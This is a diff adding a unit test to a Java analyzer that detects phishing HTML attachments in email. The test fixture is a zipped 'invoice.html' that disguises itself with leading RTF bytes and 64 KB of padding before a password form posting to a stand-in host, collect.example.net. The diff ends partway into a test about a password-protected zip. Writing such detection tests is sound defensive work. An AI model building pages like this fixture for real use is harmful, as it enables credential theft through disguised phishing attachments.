@@ -271,6 +271,16 @@ class HtmlAttachmentAnalyzerTest {
     }
 
     @Test
+    void aPageThatStartsLikeRtfIsReadWholeForItsForm() throws Exception {
+        // RTF by its first bytes, a page by its name (a browser renders it): the RTF template search must not take
+        // the page's first megabyte away from the page checks
+        byte[] zip = zip("invoice.html", "{\\rtf1 " + " ".repeat(64 * 1024) + "<form action='https://collect.example.net/p'>"
+                + "<input type=password name=p></form>");
+        assertThat(analyzeFile("Invoice.zip", zip)).contains(
+                Finding.of("HTML_ATTACHMENT_FORM", "Invoice.zip!/invoice.html: password field, form to https://collect.example.net/p"));
+    }
+
+    @Test
     void aLoginPageInsideAPasswordZipIsFoundOnceThePasswordTheMessageGivesOpensIt() throws Exception {
         // PPAP: the page is in an AES zip; the body gives its password. Without it nothing can be read.
         byte[] zip = EncryptedFiles.zip("Seikyu-2025", true, "invoice.html", ("<html><body><form action="
